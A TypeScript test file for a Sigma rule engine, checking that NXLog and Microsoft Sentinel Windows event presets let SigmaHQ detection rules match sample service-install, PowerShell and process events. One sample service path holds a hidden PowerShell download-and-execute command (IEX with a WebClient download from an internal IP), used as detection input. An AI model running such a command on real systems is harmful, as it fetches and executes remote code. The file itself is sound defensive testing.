// Presets for real Windows event shapes: NXLog JSON (flat fields, SourceName as the provider, classic
// PowerShell details only in Message) and Microsoft Sentinel WindowsEvent rows (EventData a JSON text).
// SigmaHQ rules of the corpus must match sample events built here as those shippers write them, under the
// preset's log source conditions; the existing shapes (evtx_dump, Winlogbeat) keep working.
// Reads the shared corpus.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { compileRule, eventShaperOf, getPreset, messageDetails, parseRule, shapeNxlogEvent, shapeSentinelWindowsEvent, type Pipeline } from '../../src/sigma/index.js';
import { rulesRoot } from './corpus-helpers.js';

function corpusRule(path: string) {
  const parsed = parseRule(readFileSync(join(rulesRoot, path), 'utf8'));
  assert.ok(parsed.ok, path);
  return parsed.rule;
}

/** Whether the rule (a corpus path, or a rule's text) matches the event as the preset shapes it (once per
 * event, as every matcher does). */
function matches(presetName: string, rulePathOrText: string, event: Record<string, unknown>): boolean {
  const preset = getPreset(presetName) as Pipeline;
  assert.ok(preset, presetName);
  const parsed = rulePathOrText.includes('\n') ? parseRule(rulePathOrText) : undefined;
  const rule = parsed ? (assert.ok(parsed.ok), parsed.rule) : corpusRule(rulePathOrText);
  const c = compileRule(rule, preset);
  assert.ok(c.ok, JSON.stringify(!c.ok && c.errors));
  const shape = eventShaperOf(preset);
  return c.matcher.match(shape ? shape(event) : event);
}

const PSEXEC = 'rules/windows/builtin/system/service_control_manager/win_system_service_install_sysinternals_psexec.yml';
const SUSP_SERVICE = 'rules/windows/builtin/system/service_control_manager/win_system_service_install_susp.yml';
const DOWNGRADE = 'rules/windows/powershell/powershell_classic/posh_pc_downgrade_attack.yml';
const ALTERNATE_HOST = 'rules-threat-hunting/windows/powershell/powershell_classic/posh_pc_alternate_powershell_hosts.yml';
const WHOAMI = 'rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml';

/** A System 7045 event as NXLog's im_msvistalog writes it: System and EventData fields side by side. */
const nxlogServiceInstall = (imagePath: string, serviceName = 'updsvc') => ({
  EventTime: '2020-09-21 14:33:10',
  Hostname: 'WORKSTATION5.theshire.local',
  Keywords: -9187343239835811840,
  EventType: 'INFO',
  SeverityValue: 2,
  Severity: 'INFO',
  EventID: 7045,
  SourceName: 'Service Control Manager',
  ProviderGuid: '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
  Version: 0,
  Task: 0,
  OpcodeValue: 0,
  RecordNumber: 4521,
  ProcessID: 640,
  ThreadID: 5448,
  Channel: 'System',
  Domain: 'NT AUTHORITY',
  AccountName: 'SYSTEM',
  UserID: 'S-1-5-18',
  AccountType: 'User',
  Message: `A service was installed in the system.\r\n\r\nService Name:  ${serviceName}\r\nService File Name:  ${imagePath}\r\nService Type:  user mode service\r\nService Start Type:  demand start\r\nService Account:  LocalSystem`,
  Category: 'None',
  Opcode: 'Info',
  ServiceName: serviceName,
  ImagePath: imagePath,
  ServiceType: 'user mode service',
  StartType: 'demand start',
  EventReceivedTime: '2020-09-21 14:33:12',
  SourceModuleName: 'eventlog',
  SourceModuleType: 'im_msvistalog',
});

/** A Windows PowerShell 400 event as NXLog writes it: the engine details only in the rendered Message. */
const nxlogEngineStart = (hostApplication: string, engineVersion: string, hostVersion = '5.1.17763.1') => ({
  EventTime: '2020-09-21 14:40:02',
  Hostname: 'WORKSTATION6.theshire.local',
  EventType: 'INFO',
  EventID: 400,
  SourceName: 'PowerShell',
  Channel: 'Windows PowerShell',
  Category: 'Engine Lifecycle',
  RecordNumber: 812,
  Message:
    'Engine state is changed from None to Available. \r\n\r\nDetails: \r\n\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n' +
    `\tHostName=ConsoleHost\r\n\tHostVersion=${hostVersion}\r\n\tHostId=4ec4b2b4-7c5a-4c4a-9f6e-0c8d0f7e5a11\r\n\tHostApplication=${hostApplication}\r\n` +
    `\tEngineVersion=${engineVersion}\r\n\tRunspaceId=0d8e3b4e-1f0a-4c59-a7a5-5e0b8f2b7c21\r\n\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=`,
  EventReceivedTime: '2020-09-21 14:40:03',
  SourceModuleName: 'eventlog',
  SourceModuleType: 'im_msvistalog',
});

test('NXLog: System 7045 service installs match the SigmaHQ service rules (Provider_Name from SourceName)', () => {
  assert.equal(matches('nxlog-windows', PSEXEC, nxlogServiceInstall('%SystemRoot%\\PSEXESVC.exe', 'PSEXESVC')), true);
  assert.equal(matches('nxlog-windows', SUSP_SERVICE, nxlogServiceInstall('%COMSPEC% /c powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).downloadstring(\'http://10.0.0.5/a\')"')), true);
  assert.equal(matches('nxlog-windows', SUSP_SERVICE, nxlogServiceInstall('"C:\\Program Files\\Vendor\\agent.exe" --service')), false, 'a benign service');
  const other = { ...nxlogServiceInstall('%SystemRoot%\\PSEXESVC.exe', 'PSEXESVC'), SourceName: 'Another Provider' };
  assert.equal(matches('nxlog-windows', PSEXEC, other), false, 'another provider');
  const security = { ...nxlogServiceInstall('%SystemRoot%\\PSEXESVC.exe', 'PSEXESVC'), Channel: 'Security' };
  assert.equal(matches('nxlog-windows', PSEXEC, security), false, 'the System channel condition of service: system holds');
});

test('NXLog: classic PowerShell rules read the details NXLog leaves in Message (Data and Key=Value fields)', () => {
  assert.equal(matches('nxlog-windows', DOWNGRADE, nxlogEngineStart('powershell.exe -Version 2 -nop -c whoami', '2.0')), true);
  assert.equal(matches('nxlog-windows', DOWNGRADE, nxlogEngineStart('powershell.exe -nop -c whoami', '5.1.17763.1')), false);
  assert.equal(matches('nxlog-windows', ALTERNATE_HOST, nxlogEngineStart('C:\\Tools\\custom-host.exe -run', '5.1.17763.1')), true);
  assert.equal(matches('nxlog-windows', ALTERNATE_HOST, nxlogEngineStart('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '5.1.17763.1')), false);
  const hostApplicationRule = `title: Encoded command in a PowerShell host
logsource:
    product: windows
    category: ps_classic_start
level: high
detection:
    selection:
        HostApplication|contains: ' -enc '
        EngineVersion|startswith: '5.'
    condition: selection
`;
  assert.equal(matches('nxlog-windows', hostApplicationRule, nxlogEngineStart('powershell.exe -nop -enc SQBFAFgA', '5.1.17763.1')), true);
  assert.equal(matches('nxlog-windows', hostApplicationRule, nxlogEngineStart('powershell.exe -nop', '5.1.17763.1')), false);
  assert.equal(matches('nxlog-windows', hostApplicationRule, { ...nxlogEngineStart('powershell.exe -enc x', '5.1'), EventID: 600 }), false, 'ps_classic_start is event 400');
});

test('NXLog shaping: fields kept, added only where absent, details parsed only on the classic PowerShell channel', () => {
  const event = nxlogEngineStart('powershell.exe -c x', '5.1');
  const shaped = shapeNxlogEvent(event);
  assert.equal(shaped.Provider_Name, 'PowerShell');
  assert.equal(shaped.Computer, 'WORKSTATION6.theshire.local');
  assert.equal(shaped.HostApplication, 'powershell.exe -c x');
  assert.equal(shaped.EngineVersion, '5.1');
  assert.equal(shaped.PipelineId, '', 'an empty detail is an empty string');
  assert.equal(shaped.Data, event.Message);
  for (const [k, v] of Object.entries(event)) assert.deepEqual(shaped[k], v, k);
  assert.equal('HostApplication' in event, false, 'the event given is not changed');
  const own = shapeNxlogEvent({ ...event, HostApplication: 'kept', Provider_Name: 'mine' });
  assert.equal(own.HostApplication, 'kept');
  assert.equal(own.Provider_Name, 'mine');
  const sysmon = shapeNxlogEvent({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Message: 'Process Create:\r\nRuleName=x\r\nImage: C:\\a.exe' });
  assert.equal(sysmon.RuleName, undefined, 'other channels are not parsed');
  assert.deepEqual(messageDetails('a=1\r\n\tB_2=x=y\r\n 3=no\r\nnot a detail\r\n__proto__=z'), [
    ['a', '1'],
    ['B_2', 'x=y'],
  ]);
});

/** A WindowsEvent row as a Sentinel export writes it: EventData a JSON text. */
const sentinelRow = (eventId: number, channel: string, provider: string, data: Record<string, unknown>) => ({
  TenantId: '5a6c1f8e-0b0e-4d4c-9a55-5d1e2a0c7f31',
  TimeGenerated: '2024-03-02T10:15:00.123Z',
  SourceSystem: 'OpsManager',
  Computer: 'dc01.contoso.com',
  EventOriginId: '2b9f3f0c-6a8e-4b1d-8a62-7f8c3e1d9a40',
  EventLevel: 4,
  EventLevelName: 'Information',
  EventID: eventId,
  Channel: channel,
  Provider: provider,
  Task: 0,
  Keywords: '0x8080000000000000',
  EventData: JSON.stringify(data),
  Type: 'WindowsEvent',
  _ResourceId: '/subscriptions/x/resourcegroups/y/providers/microsoft.compute/virtualmachines/dc01',
});

test('Sentinel WindowsEvent: rules match on the decoded EventData fields', () => {
  const service = (imagePath: string, name = 'PSEXESVC') =>
    sentinelRow(7045, 'System', 'Service Control Manager', { ServiceName: name, ImagePath: imagePath, ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' });
  assert.equal(matches('sentinel-windows-event', PSEXEC, service('%SystemRoot%\\PSEXESVC.exe')), true);
  assert.equal(matches('sentinel-windows-event', PSEXEC, service('C:\\Windows\\System32\\svchost.exe -k netsvcs', 'Appinfo')), false);
  const whoami = sentinelRow(1, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', {
    RuleName: '-',
    UtcTime: '2024-03-02 10:14:59.871',
    ProcessGuid: '{8f1b7a3e-0c2d-65e3-3b04-000000002c00}',
    ProcessId: 6120,
    Image: 'C:\\Windows\\System32\\whoami.exe',
    OriginalFileName: 'whoami.exe',
    CommandLine: 'whoami /all',
    User: 'CONTOSO\\jdoe',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  });
  assert.equal(matches('sentinel-windows-event', WHOAMI, whoami), true);
  assert.equal(matches('sentinel-windows-event', WHOAMI, { ...whoami, Channel: 'Security' }), false, 'Sysmon 1 or Security 4688 only');
});

test('Sentinel shaping: columns kept, EventData decoded in place and at top level (spaces removed), columns win', () => {
  const row = sentinelRow(1116, 'Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', { 'Threat Name': 'Trojan:Win32/X', Computer: 'from-data', Path: 'file:_C:\\x.exe' });
  const shaped = shapeSentinelWindowsEvent(row);
  assert.equal(shaped.ThreatName, 'Trojan:Win32/X');
  assert.equal(shaped.Computer, 'dc01.contoso.com', 'the column keeps its value');
  assert.equal(shaped.Provider_Name, 'Microsoft-Windows-Windows Defender');
  assert.deepEqual(shaped.EventData, { 'Threat Name': 'Trojan:Win32/X', Computer: 'from-data', Path: 'file:_C:\\x.exe' });
  assert.equal(typeof row.EventData, 'string', 'the row given is not changed');
  // Text that is not a JSON object stays as it is.
  for (const text of ['not json', '[1,2]', '{"a":', '"x"']) assert.equal(shapeSentinelWindowsEvent({ EventData: text }).EventData, text);
  // Already an object (an export that kept dynamic columns): read the same way.
  assert.equal(shapeSentinelWindowsEvent({ EventData: { ImagePath: 'a' } }).ImagePath, 'a');
  // Decoded text nesting deeper than events may stays text.
  const deep = '{"a":'.repeat(120) + '1' + '}'.repeat(120);
  assert.equal(shapeSentinelWindowsEvent({ EventData: deep }).EventData, deep);
  // `__proto__` inside EventData is a field, not the prototype.
  const proto = shapeSentinelWindowsEvent({ EventData: '{"__proto__":{"polluted":1},"x":2}' });
  assert.equal(Object.getPrototypeOf(proto), Object.prototype);
  assert.deepEqual(Object.hasOwn(proto, '__proto__'), true);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('existing shapes keep working: evtx_dump under sigma-native, Winlogbeat under its presets, no shaping there', () => {
  const evtx = {
    Event: {
      System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } } },
      EventData: { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' },
    },
  };
  assert.equal(matches('windows-thor', WHOAMI, evtx), true);
  const winlogbeat = { winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1, event_data: { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' } }, event: { code: 1 } };
  assert.equal(matches('winlogbeat-raw', WHOAMI, winlogbeat), true);
  assert.equal(eventShaperOf(getPreset('ecs-windows') as Pipeline), null);
  assert.equal(eventShaperOf(getPreset('winlogbeat-raw') as Pipeline), null);
});
